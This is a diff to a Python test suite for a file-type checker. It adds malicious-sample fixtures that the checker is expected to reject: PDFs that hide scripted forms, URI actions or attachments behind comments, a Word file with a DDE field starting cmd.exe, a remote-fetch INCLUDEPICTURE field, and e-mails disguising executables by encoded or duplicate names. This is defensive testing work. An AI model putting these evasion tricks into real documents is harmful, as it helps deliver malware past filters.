@@ -41,6 +41,10 @@ def _referring(kind: str, target: str, mode: str = "External") -> bytes:
     return office(WORD, **{_RELS: relations(kind, target, mode)})
 
 
+def _saying(words: str) -> bytes:
+    return office(WORD, word__document_dot_xml=f'<w:document xmlns:w="w">{words}</w:document>'.encode())
+
+
 _JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
 _HIDDEN = compressed(b"<< /S /J#61va#53cript /JS (x) >>")
 _OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
@@ -59,6 +63,10 @@ MALICIOUS = {
     "a PDF whose page acts": ("report.pdf", pdf(b"", b"<< /Type /Page /AA << /O << /S /URI >> >> >>"), "runs"),
     "a PDF with a form that is a program": ("report.pdf", pdf(b"/AcroForm << /XFA [] >>"), "runs"),
     "a PDF that sends what is typed": ("report.pdf", pdf(b"", b"<< /S /SubmitForm /F (http://x) >>"), "runs"),
+    "a PDF that hides a form behind a comment": ("report.pdf", pdf(b"% stream\n/AcroForm << /XFA 5 0 R >>"), "runs"),
+    "a PDF that hides an act behind a comment": (
+        "report.pdf", pdf(b"% stream\n/#41A <</O <</S /URI /URI (http://x)>> >>"), "runs"),
+    "a PDF that hides a file behind a text": ("report.pdf", pdf(b"/T (>> stream\n) /EF 5 0 R"), "attached"),
     "a PDF with a file inside": ("report.pdf", pdf(b"", b"<< /Type /EmbeddedFile >>"), "attached"),
     "a PDF with a file pinned to it": ("report.pdf", pdf(b"", b"<< /Subtype /FileAttachment /FS 5 0 R >>"), "attached"),
     "a PDF that is a folder": ("report.pdf", pdf(b"/Collection << >>"), "attached"),
@@ -91,6 +99,10 @@ MALICIOUS = {
         "letter.docx", _referring("image", "https://bad.example/a.png"), "another address"),
     "a Word file that calls an address its own": (
         "letter.docx", _referring("attachedTemplate", "http://bad.example/a", "Internal"), "another address"),
+    "a Word file with a field that starts a program": ("letter.docx", _saying(
+        '<w:fldChar/><w:instrText> DDE</w:instrText><w:instrText>AUTO c:/cmd.exe</w:instrText>'), "another address"),
+    "a Word file with a simple field that asks": (
+        "letter.docx", _saying('<w:fldSimple w:instr="INCLUDEPICTURE &quot;//x/a.png&quot;"/>'), "another address"),
     "a Word file with another in it": ("letter.docx", _referring("aFChunk", "a.html", "Internal"), "put inside"),
     "a Word file with a program in it": (
         "letter.docx", _referring("oleObject", "embeddings/a.bin", "Internal"), "put inside"),
@@ -113,6 +125,14 @@ MALICIOUS = {
     "an archive named .docx": ("letter.docx", archive({"a.txt": b"x"}), "something else"),
     "an archive whose end is missing": ("letter.docx", DOCX[:-30], "something else"),
     "an e-mail with a program": ("message.eml", _ATTACHED.replace(b"{}", b"invoice.exe"), "can run"),
+    "an e-mail with a program by an encoded name": (
+        "message.eml", _ATTACHED.replace(b"{}", b"=?utf-8?B?ZXZpbC5leGU=?="), "can run"),
+    "an e-mail with a program by its second name": (
+        "message.eml", _ATTACHED.replace(b"{}", b"a.exe", 1).replace(b"{}", b"a.txt"), "can run"),
+    "an e-mail with an archive": ("message.eml", _ATTACHED.replace(b"{}", b"letters.zip"), "an archive"),
+    "an e-mail with a PDF that runs": (
+        "message.eml", _ATTACHED.replace(b"{}", b"a.pdf").replace(b"MZ", pdf(b"/AcroForm << /XFA [] >>")),
+        "a.pdf is attached.*runs"),
     "an e-mail without a sender": ("message.eml", EMAIL.replace(b"From", b"Form"), "Its name says e-mail"),
     "a web page named .eml": ("message.eml", HTML, "web page"),
 }  # fmt: skip
@@ -122,6 +142,14 @@ MALICIOUS = {
 def test_each_kind_is_told_by_its_content(name: str) -> None:
     kind = kind_of(io.BytesIO(TAKEN[name]), name)
     assert name.lower().endswith(kind.endings)
+
+
+def test_fields_that_ask_nothing_and_an_attached_pdf_that_does_nothing_are_taken() -> None:
+    fields = '<w:fldSimple w:instr=" PAGE "/><w:fldChar/><w:instrText> HYPERLINK "http://x/DDE LINK"</w:instrText>'
+    assert kind_of(io.BytesIO(_saying(fields)), "letter.docx").code == "docx"
+    for name in (b"a.pdf", b"=?utf-8?Q?Gr=C3=BC=C3=9Fe.pdf?="):
+        sent = _ATTACHED.replace(b"{}", name).replace(b"MZ", PDF)
+        assert kind_of(io.BytesIO(sent), "message.eml").code == "email"
 
 
 def test_there_is_an_example_of_each_kind() -> None:
